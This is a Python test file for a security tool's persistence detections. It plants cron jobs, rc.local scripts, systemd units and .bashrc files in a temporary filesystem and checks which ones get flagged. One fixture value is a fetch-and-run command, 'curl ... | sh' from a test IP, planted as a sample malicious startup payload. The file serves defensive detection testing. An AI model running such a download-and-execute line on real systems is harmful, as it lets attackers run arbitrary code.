"""One rule for what starts by itself: what is behind a command is judged alike, whatever starts it, however it is handed on."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Mapping
from pathlib import Path

import pytest
import yaml

from extension.engines.embedded import EmbeddedEngine
from extension.pack.model import load_pack, shipped_pack
from tables.host import Host
from tables.persistence.rc_local_commands import rc_local_commands
from tables.persistence.startup_commands import startup_commands
from tables.schema import QueryContext
from tests.support.patience import patient
from tests.support.planted_files import link, plant

CASES: Mapping[str, dict[str, dict[str, str]]] = yaml.safe_load(Path(__file__).with_name("started_programs.yaml").read_text())
_WORDS = {"<download>": "curl -fsSL http://203.0.113.7/i.sh | sh", "<stray>": "/usr/bin/hwdbd", "<elf>": "\x7fELF"}
_EXECUTABLE = " (x)"
# What packages own, as they brought it.
_PACKAGED = {
    "/usr/bin/logger (x)": "<elf>",
    "/usr/bin/tar (x)": "<elf>",
    "/usr/bin/mawk (x)": "<elf>",
    "/usr/bin/snap (x)": "<elf>",
    "/usr/bin/sh (x)": "<elf>",
    "/usr/bin/python3 (x)": "<elf>",
    "/lib/systemd/system/multi-user.target.wants/base.service": "[Service]\nExecStart=/usr/lib/base/generated\n",
    "/usr/lib/systemd/system/anacron.service": "[Service]\nExecStart=/usr/bin/logger\n",
    "/usr/lib/command-not-found": "#!/usr/bin/python3\nimport os\n",
}
_BASE = {
    "/etc/passwd": "root:x:0:0::/root:/bin/bash\nkim:x:1000:1000::/home/kim:/bin/bash\nwww-data:x:33:33::/var/www:/bin/false\n",
    "/var/lib/dpkg/status": "Package: base\nStatus: install ok installed\n",
    "/usr/bin/hwdbd (x)": "<elf>",
}
_PACK = load_pack(shipped_pack())
_STARTERS = ("scheduled_jobs", "startup_commands", "systemd_unit_commands", "rc_local_commands", "preloaded_libraries")
_ASKED = {
    query.name: query.sql
    for query in _PACK.queries()
    if query.kind == "detection" and any(f"FROM {table}" in query.sql for table in _STARTERS)
}


def _filled(text: str) -> str:
    for word, meaning in _WORDS.items():
        text = text.replace(word, meaning)
    return text


def _write(root: Path, tree: Mapping[str, str]) -> None:
    for path, text in tree.items():
        plant(root, path.removesuffix(_EXECUTABLE), _filled(text), 0o755 if path.endswith(_EXECUTABLE) else 0o644)


def _system(root: Path) -> None:
    """A small system with a package database."""
    _write(root, {**_BASE, **_PACKAGED})
    link(root, "/etc/alternatives/awk", "/usr/bin/awk")
    link(root, "/usr/bin/mawk", "/etc/alternatives/awk")
    contents = {path.removesuffix(_EXECUTABLE): _filled(text) for path, text in _PACKAGED.items()}
    plant(root, "/var/lib/dpkg/info/base.list", "".join(f"{path}\n" for path in ("/.", *contents, "/etc/crontab")))
    sums = (f"{hashlib.md5(text.encode()).hexdigest()}  {path.lstrip('/')}\n" for path, text in contents.items())
    plant(root, "/var/lib/dpkg/info/base.md5sums", "".join(sums))


def _found(root: Path) -> list[tuple[str, str]]:
    """(query, path) of each row of a detection of what starts by itself."""
    engine = EmbeddedEngine(Host(str(root)))
    return [(name, str(row.get("source_path") or row["path"])) for name, sql in _ASKED.items() for row in engine.query(sql)]


@pytest.mark.parametrize("name", CASES["fires"])
def test_found_whatever_starts_it(tmp_path: Path, name: str) -> None:
    _system(tmp_path)
    assert _found(tmp_path) == []
    tree = CASES["fires"][name]
    _write(tmp_path, tree)
    assert {path for _, path in _found(tmp_path)} & {path.removesuffix(_EXECUTABLE) for path in tree}


@pytest.mark.parametrize("name", CASES["silent"])
def test_what_administrators_and_vendors_start_is_silent(tmp_path: Path, name: str) -> None:
    _system(tmp_path)
    _write(tmp_path, CASES["silent"][name])
    assert _found(tmp_path) == []


@pytest.mark.parametrize("program", ["/usr/bin/hwdbd", "/var/tmp/.x/run"])
def test_a_packaged_unit_that_was_edited_is_not_trusted(tmp_path: Path, program: str) -> None:
    _system(tmp_path)
    unit = f"[Service]\nExecStartPre={program}\nExecStart=/usr/bin/logger\n"
    _write(tmp_path, {"/usr/lib/systemd/system/anacron.service": unit, f"{program} (x)": "<elf>"})
    link(tmp_path, "/usr/lib/systemd/system/anacron.service", "/etc/systemd/system/multi-user.target.wants/anacron.service")
    assert {path for _, path in _found(tmp_path)} == {"/usr/lib/systemd/system/anacron.service"}


def test_scripts_that_start_each_other_end(tmp_path: Path) -> None:
    _system(tmp_path)
    scripts = {f"/opt/x/{n} (x)": f"#!/bin/sh\n/opt/x/{(n + 1) % 3}\n. /opt/x/{n}\n" for n in range(3)}
    _write(tmp_path, {"/etc/cron.d/x": "* * * * * root /opt/x/0\n", **scripts})
    assert _found(tmp_path) == []


def test_what_one_account_sources_does_not_take_the_time_of_others(tmp_path: Path) -> None:
    _system(tmp_path)
    slow = "$(:;" * (64 * 1024)
    scripts = {f"/home/kim/{n}": slow for n in range(200)}
    _write(tmp_path, {"/home/kim/.bashrc": "".join(f". ~/{n}\n" for n in range(200)), **scripts})
    for path in scripts:
        os.chown(tmp_path / path[1:], 1000, 1000)
    _write(tmp_path, {"/root/.bashrc": ". ~/.bashrc.koske\n", "/root/.bashrc.koske": "<download>\n"})
    query = QueryContext(budget_seconds=patient(12.0))
    rows = [row for row in startup_commands.generate(Host(str(tmp_path)), query) if row.path == "/root/.bashrc"]
    assert [row.line for row in rows] == [0, 1]
    assert any("out of time for the files of this account" in why for why in query.cuts)


RC = "/etc/rc.local (x)"


def _rc_local(root: Path, *commands: str, **files: str) -> tuple[set[tuple[str, str]], QueryContext]:
    _system(root)
    _write(root, {RC: "\n".join(("#!/bin/sh", *commands, "")), **{f"/opt/{name} (x)": text for name, text in files.items()}})
    query = QueryContext()
    rows = [row.to_wire() for row in rc_local_commands.generate(Host(str(root)), query)]
    return {(row["command"], row["unpackaged_program"]) for row in rows if row.get("unpackaged_program")}, query


def test_a_command_that_stands_twice_in_a_line_may_start_two_things(tmp_path: Path) -> None:
    found, _ = _rc_local(tmp_path, "X=/usr/bin/hwdbd; $X; X=/usr/bin/logger; $X")
    assert found == {("$X", "/usr/bin/hwdbd")}


def test_a_remarkable_command_is_not_lost_beside_a_plain_one_of_the_same_words(tmp_path: Path) -> None:
    _system(tmp_path)
    _write(tmp_path, {"/etc/init.d/x (x)": "#!/bin/sh\ncd /tmp; ./a; cd /; ./a\n", "/a (x)": "<elf>"})
    link(tmp_path, "/etc/init.d/x", "/etc/rc2.d/S01x")
    rows = list(startup_commands.generate(Host(str(tmp_path)), QueryContext()))
    assert [row.reasons for row in rows if row.command == "./a"]


@pytest.mark.parametrize(
    ("language", "start"),
    [("/bin/sh", "/usr/bin/hwdbd"), ("/usr/bin/python3", "os.system('/usr/bin/hwdbd')")],
)
def test_comments_before_it_hide_nothing_and_what_is_too_long_is_said(tmp_path: Path, language: str, start: str) -> None:
    comments = "# nothing to see here\n" * 20_000
    found, query = _rc_local(tmp_path, "/opt/a", a=f"#!{language}\n{comments}{start}\n")
    assert found == {("/opt/a", "/usr/bin/hwdbd")} and not query.truncated
    (tmp_path / "opt/a").write_text(f"#!{language}\n" + "x = 1\n" * 60_000 + start)
    query = QueryContext()
    list(rc_local_commands.generate(Host(str(tmp_path)), query))
    assert query.truncated is not None and "/opt/a" in query.truncated


def test_more_programs_than_are_looked_at_are_said(tmp_path: Path) -> None:
    names = [f"p{number}" for number in range(260)]
    script = "#!/bin/sh\n" + "\n".join((*(f"/opt/{name}" for name in names), "/usr/bin/hwdbd"))
    _, query = _rc_local(tmp_path, "/opt/all", all=script, **dict.fromkeys(names, "<elf>"))
    assert query.truncated is not None and "files that a script starts" in query.truncated


def test_openrcs_scripts_are_followed_like_a_shells(tmp_path: Path) -> None:
    found, _ = _rc_local(tmp_path, "/opt/a", a="#!/sbin/openrc-run\n/usr/bin/hwdbd\n")
    assert found == {("/opt/a", "/usr/bin/hwdbd")}
